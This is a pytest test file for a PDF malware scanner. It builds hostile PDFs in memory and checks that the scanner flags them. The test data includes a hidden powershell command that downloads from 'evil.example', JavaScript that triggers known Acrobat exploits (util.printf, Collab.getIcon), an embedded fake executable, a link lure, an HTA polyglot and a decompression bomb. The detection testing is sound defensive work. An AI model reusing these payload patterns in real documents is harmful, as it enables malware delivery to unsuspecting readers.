"""PDF analyser: hand-built PDFs in memory, plus the shared corpora (read only in memory)."""

from __future__ import annotations

import io
import zlib
from pathlib import Path

import pytest

from aptcatch.capture.engine import Scanner
from aptcatch.capture.formats import _pdf_raw
from aptcatch.model.scan import ItemResult

MALDOCS_PDF = {
    "2019-07-16Shop/34f33612c9f6b132430385e6dc3f8603ff897d34c780bfa5a4cf7663922252ba.zip": "link_lure",
    "2019-07-16Shop/b43c2ba4e312d36a1b7458d1342600957e0daf3d1fcd8c7324afd387772f2cc0.zip": "link_lure",
    "Quick-Analysis-of-a-Customer-Malspam-Encounter/"
    "9e8eb1889ec6b32a6074dd5b963c84fd27d7ba7f314ea997f3e3eb4a1ac70757.zip": "deceptive_link",
}
HTA_DECOY = "2019-04-Malicious-HTA-file/d40235adace14a5c665e19bbeff39a395a7349562d19d8228c7411502bb07bb9.zip"


def make_pdf(objects: list[bytes], trailer: bytes = b"/Root 1 0 R", tail: bytes = b"") -> bytes:
    """Serialise ``objects`` (numbered from 1) with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d " % (len(objects) + 1) + trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out) + tail


def stream(data: bytes, extra: bytes = b"", flate: bool = False) -> bytes:
    if flate:
        data = zlib.compress(data)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
    b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> %s >>"
)
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def text_content(text: bytes) -> bytes:
    return stream(b"BT /F1 12 Tf 72 700 Td (" + text + b") Tj ET")


def ids(result: ItemResult) -> set[str]:
    return {f.id for f in result.findings}


@pytest.fixture(scope="module")
def scan() -> Scanner:
    return Scanner()


def test_openaction_javascript_is_malicious(scan: Scanner) -> None:
    pdf = make_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
            PAGES,
            PAGE % b"",
            text_content(b"Hello"),
            b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\); eval\\(unescape\\('%41'\\)\\);) >>",
        ]
    )
    r = scan.scan_bytes(pdf, name="a.pdf")
    assert r.type == "pdf"
    assert {"pdf.auto_javascript", "pdf.javascript"} <= ids(r)
    assert r.verdict == "malicious"
    assert r.artifact.metadata["page_count"] == 1


def test_hex_escaped_names_and_flate_js_stream_with_exploit(scan: Scanner) -> None:
    js = b"var s = unescape('" + b"%u9090" * 40 + b"'); util.printf('%45000f', 1); Collab.getIcon('x');"
    pdf = make_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 6 0 R >> >>",
            PAGES,
            PAGE % b"",
            text_content(b"x"),
            stream(js, flate=True),
            b"<< /Names [(a) 7 0 R] >>",
            b"<< /S /J#61vaScript /J#53 5 0 R >>",
        ]
    )
    r = scan.scan_bytes(pdf, name="b.pdf")
    found = ids(r)
    assert "pdf.obfuscated_names" in found
    assert {"pdf.js_shellcode", "pdf.js_exploit_util_printf", "pdf.js_exploit_collab_geticon"} <= found
    assert "pdf.auto_javascript" in found  # document-level (name tree) scripts run on open
    assert {"CVE-2008-2992", "CVE-2009-0927"} <= {c.id for c in r.cves}
    assert r.verdict == "malicious"


def test_launch_action_with_parameters(scan: Scanner) -> None:
    pdf = make_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            PAGE % b"/AA << /O 5 0 R >>",
            text_content(b"x"),
            b"<< /S /Launch /Win << /F (cmd.exe) "
            b"/P (/c powershell -w hidden iwr http://evil.example/a.ps1) >> >>",
        ]
    )
    r = scan.scan_bytes(pdf, name="c.pdf")
    launch = [f for f in r.findings if f.id == "pdf.launch"]
    assert launch and "cmd.exe" in launch[0].detail and "automatic" in launch[0].detail
    assert any(i.value.startswith("http://evil.example") for i in r.indicators)
    assert r.verdict == "malicious"


def test_embedded_file_becomes_child(scan: Scanner) -> None:
    payload = b"MZ" + b"\x00" * 58 + b"\x40\x00\x00\x00" + b"PE\x00\x00" + b"\x00" * 200
    pdf = make_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 6 0 R >> >>",
            PAGES,
            PAGE % b"",
            text_content(b"see attachment"),
            stream(payload, b" /Type /EmbeddedFile", flate=True),
            b"<< /Names [(invoice.exe) 7 0 R] >>",
            b"<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 5 0 R >> >>",
        ]
    )
    r = scan.scan_bytes(pdf, name="d.pdf")
    assert {"pdf.embedded_file", "pdf.embedded_executable_name"} <= ids(r)
    kids = r.artifact.children
    assert len(kids) == 1 and kids[0].name == "invoice.exe" and kids[0].type == "pe"


def test_link_lure_and_ip_link(scan: Scanner) -> None:
    annot = (
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 700] /A << /S /URI /URI (http://192.0.2.7/view) >> >>"
    )
    pdf = make_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            PAGE % b"/Annots [5 0 R]",
            text_content(b"Click to view document"),
            annot,
        ]
    )
    r = scan.scan_bytes(pdf, name="e.pdf")
    assert {"pdf.link_lure", "pdf.uri_ip_host", "pdf.uri"} <= ids(r)
    assert any(i.value == "http://192.0.2.7/view" for i in r.indicators)
    assert r.verdict in ("suspicious", "malicious")
    assert "Click to view" in r.lure.excerpt


def test_plain_document_with_link_stays_clean(scan: Scanner) -> None:
    body = b"Quarterly report. " * 120
    annot = (
        b"<< /Type /Annot /Subtype /Link /Rect [72 72 200 90] /A << /S /URI /URI (https://example.org/) >> >>"
    )
    pdf = make_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
            PAGES,
            PAGE % b"/Annots [5 0 R]",
            text_content(body),
            annot,
        ]
    )
    r = scan.scan_bytes(pdf, name="f.pdf")
    assert r.verdict == "clean", r.findings
    assert not r.artifact.errors


def test_encrypted_with_empty_user_password_is_decrypted(scan: Scanner) -> None:
    from pypdf import PdfWriter

    w = PdfWriter()
    w.add_blank_page(612, 792)
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("this.exportDataObject({cName: 'a.exe', nLaunch: 2});"),
        }
    )
    w._root_object[NameObject("/OpenAction")] = w._add_object(action)
    w.encrypt(user_password="", owner_password="owner-secret", algorithm="AES-128")
    buf = io.BytesIO()
    w.write(buf)
    r = scan.scan_bytes(buf.getvalue(), name="g.pdf")
    found = ids(r)
    assert {"pdf.encrypted", "pdf.javascript", "pdf.js_export_data_object"} <= found
    assert "pdf.encrypted_unopened" not in found
    assert r.artifact.metadata["pdf_password"] == "(empty user password)"


def test_encrypted_with_unknown_password(scan: Scanner) -> None:
    from pypdf import PdfWriter

    w = PdfWriter()
    w.add_blank_page(612, 792)
    w.encrypt(user_password="not-a-default-Zq9", owner_password="o", algorithm="AES-128")
    buf = io.BytesIO()
    w.write(buf)
    r = scan.scan_bytes(buf.getvalue(), name="h.pdf")
    assert "pdf.encrypted_unopened" in ids(r)
    assert any(e.kind == "encrypted" for e in r.artifact.errors)


def test_truncated_and_garbage_pdfs_do_not_crash(scan: Scanner) -> None:
    pdf = make_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
            PAGES,
            PAGE % b"",
            text_content(b"x"),
            b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        ]
    )
    cut = pdf[: pdf.index(b"xref")]  # no xref, no trailer: only the raw scan can read it
    r = scan.scan_bytes(cut, name="cut.pdf")
    assert r.type == "pdf" and "pdf.auto_javascript" in ids(r)
    r = scan.scan_bytes(
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 9 0 R" + bytes(range(256)) * 4, name="x.pdf"
    )
    assert r.type == "pdf"
    assert all(e.kind != "timeout" for e in r.artifact.errors)


def test_decompression_bomb_is_refused(scan: Scanner) -> None:
    bomb = zlib.compress(b"\x00" * (_pdf_raw.MAX_STREAM_OUT + 1024 * 1024), 9)
    pdf = make_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
            PAGES,
            PAGE % b"",
            text_content(b"x"),
            b"<< /S /JavaScript /JS 6 0 R >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb + b"\nendstream",
        ]
    )
    r = scan.scan_bytes(pdf, name="bomb.pdf")
    assert r.type == "pdf"
    assert r.artifact.children == ()


def test_trailing_payload_and_hta_polyglot(scan: Scanner) -> None:
    tail = (
        b"\n<html><head><hta:application id=x></head><script language=vbscript>" + b"A" * 600 + b"</script>"
    )
    pdf = make_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE % b"", text_content(b"x")], tail=tail)
    r = scan.scan_bytes(pdf, name="poly.pdf")
    assert {"pdf.polyglot_script", "pdf.trailing_data"} <= ids(r)
    assert r.artifact.children and r.artifact.children[0].type == "hta"


def test_raw_literal_parser() -> None:
    literal = b"(a\\(b\\)c (nested) \\101\\n)"
    value, end = _pdf_raw.read_literal(literal + b" tail", 0)
    assert value == b"a(b)c (nested) A\n"
    assert end == len(literal)


# -- corpora ----------------------------------------------------------------------------------------
def _read_zip(path: Path) -> tuple[str, bytes]:
    import pyzipper

    with pyzipper.AESZipFile(path) as zf:
        name = zf.namelist()[0]
        return name, zf.read(name, pwd=b"infected")


@pytest.mark.corpus
@pytest.mark.parametrize("rel", sorted(MALDOCS_PDF))
def test_maldocs_pdfs_are_flagged(shared_data: Path, scan: Scanner, rel: str) -> None:
    name, data = _read_zip(shared_data / "maldocs-dev" / rel)
    r = scan.scan_bytes(data, name=name)
    assert r.type == "pdf"
    assert r.verdict in ("suspicious", "malicious"), r.findings
    assert f"pdf.{MALDOCS_PDF[rel]}" in ids(r)
    assert any(i.type.value == "url" for i in r.indicators)


@pytest.mark.corpus
def test_hta_campaign_decoy_pdf_parses(shared_data: Path, scan: Scanner) -> None:
    # The decoy shown to the victim of the 2019-04 HTA campaign: a plain 2011 Distiller form with no
    # active content, links, attachments or scripts. It is parsed fully and, honestly, not flagged.
    name, data = _read_zip(shared_data / "maldocs-dev" / HTA_DECOY)
    r = scan.scan_bytes(data, name=name)
    assert r.type == "pdf" and not r.artifact.errors
    assert r.artifact.metadata["title"] == "Microsoft Word - Employment form-DHA"
    assert "DEFENCE HOUSING AUTHORITY" in r.lure.excerpt


@pytest.mark.corpus
def test_benign_fixture_pdf_is_clean(shared_data: Path, scan: Scanner) -> None:
    r = scan.scan_file(shared_data / "strelka-fixtures" / "test.pdf")
    assert r.type == "pdf"
    assert r.verdict == "clean", r.findings
    assert r.artifact.metadata["author"] == "Ryan.OHoro"
